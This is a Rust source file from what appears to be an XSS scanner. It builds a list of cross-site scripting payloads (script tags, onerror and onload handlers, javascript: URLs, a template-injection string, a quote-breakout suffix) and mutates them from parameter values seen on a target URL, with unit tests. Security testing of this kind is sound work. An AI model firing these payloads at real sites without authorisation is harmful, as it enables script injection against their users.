// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

//! Payload corpus and set builder
//!
//! Payload templates carry the `MARKER` token; the set substitutes the
//! run-scoped marker once at build time and appends mutations derived from
//! the parameter values observed on the target URL.

use std::collections::HashSet;
use std::path::Path;

use crate::error::Result;
use crate::marker::Marker;

/// Built-in corpus of marker-templated injection payloads.
///
/// The corpus is an ordered list; ordering is preserved through
/// substitution and deduplication.
pub const DEFAULT_CORPUS: &[&str] = &[
    "MARKER<script>xyz('XSS')</script>",
    "MARKER\"><script>xyz('XSS')</script>",
    "MARKER'><script>xyz('XSS')</script>",
    "MARKER'\"><script>xyz('XSS')</script>",
    "MARKER<img src=x onerror=xyz('XSS')>",
    "MARKER\"><img src=x onerror=xyz('XSS')>",
    "MARKER'\"><svg onload=xyz('XSS')>",
    "MARKER</script><script>xyz('XSS')</script>",
    "MARKER'-xyz('XSS')-'",
    "MARKER\"-xyz('XSS')-\"",
    "MARKER`-xyz('XSS')-`",
    "javascript:xyz('MARKER')",
    "MARKER{{constructor.constructor(\"xyz('XSS')\")()}}",
    "MARKER<details open ontoggle=xyz('XSS')>",
    "MARKER<iframe src=\"javascript:xyz('XSS')\">",
];

/// Breakout sequence appended to the second value mutation
pub const BREAKOUT_SUFFIX: &str = "'\"><img src=x onerror=alert()>";

/// Ordered, deduplicated set of concrete payloads for one run
#[derive(Debug, Clone, Default)]
pub struct PayloadSet {
    payloads: Vec<String>,
}

impl PayloadSet {
    /// Build the set from the built-in corpus
    pub fn built_in(marker: &Marker) -> Self {
        Self::from_templates(DEFAULT_CORPUS.iter().map(|t| t.to_string()), marker)
    }

    /// Build the set from explicit templates
    pub fn from_templates<I>(templates: I, marker: &Marker) -> Self
    where
        I: IntoIterator<Item = String>,
    {
        let mut set = Self::default();
        for template in templates {
            set.push(marker.apply(&template));
        }
        set
    }

    /// Load templates from a JSON file holding an array of strings
    pub fn from_json_file(path: &Path, marker: &Marker) -> Result<Self> {
        let raw = std::fs::read_to_string(path)?;
        let templates: Vec<String> = serde_json::from_str(&raw)?;
        Ok(Self::from_templates(templates, marker))
    }

    /// Append mutations derived from observed parameter values:
    /// `value+marker` and `marker+value+marker+breakout`.
    pub fn add_value_mutations<'a, I>(&mut self, marker: &Marker, values: I)
    where
        I: IntoIterator<Item = &'a str>,
    {
        for value in values {
            self.push(format!("{}{}", value, marker.as_str()));
            self.push(format!(
                "{m}{v}{m}{b}",
                m = marker.as_str(),
                v = value,
                b = BREAKOUT_SUFFIX
            ));
        }
        self.dedup();
    }

    /// Remove duplicates, preserving first-appearance order
    pub fn dedup(&mut self) {
        let mut seen = HashSet::new();
        self.payloads.retain(|p| seen.insert(p.clone()));
    }

    fn push(&mut self, payload: String) {
        self.payloads.push(payload);
    }

    pub fn iter(&self) -> impl Iterator<Item = &str> {
        self.payloads.iter().map(String::as_str)
    }

    /// Clone the payload list for a scan pass
    pub fn to_vec(&self) -> Vec<String> {
        self.payloads.clone()
    }

    pub fn len(&self) -> usize {
        self.payloads.len()
    }

    pub fn is_empty(&self) -> bool {
        self.payloads.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_built_in_corpus_substitutes_marker() {
        let marker = Marker::from_value("zz9yy8xx");
        let set = PayloadSet::built_in(&marker);

        assert_eq!(set.len(), DEFAULT_CORPUS.len());
        for payload in set.iter() {
            assert!(!payload.contains("MARKER"));
        }
        assert!(set.iter().any(|p| p.contains("zz9yy8xx")));
    }

    #[test]
    fn test_value_mutations() {
        let marker = Marker::from_value("m4rk3r00");
        let mut set = PayloadSet::from_templates(std::iter::empty(), &marker);
        set.add_value_mutations(&marker, ["hello"]);

        let payloads: Vec<&str> = set.iter().collect();
        assert_eq!(payloads[0], "hellom4rk3r00");
        assert_eq!(
            payloads[1],
            format!("m4rk3r00hellom4rk3r00{}", BREAKOUT_SUFFIX)
        );
    }

    #[test]
    fn test_dedup_preserves_order() {
        let marker = Marker::from_value("m");
        let templates = ["a", "b", "a", "c", "b"].iter().map(|s| s.to_string());
        let mut set = PayloadSet::from_templates(templates, &marker);
        set.dedup();

        assert_eq!(set.iter().collect::<Vec<_>>(), vec!["a", "b", "c"]);
    }

    #[test]
    fn test_from_json_file() {
        use std::io::Write;

        let marker = Marker::from_value("tok");
        let mut file = tempfile::NamedTempFile::new().unwrap();
        write!(file, r#"["MARKER<b>one</b>", "two"]"#).unwrap();

        let set = PayloadSet::from_json_file(file.path(), &marker).unwrap();
        assert_eq!(set.iter().collect::<Vec<_>>(), vec!["tok<b>one</b>", "two"]);
    }
}
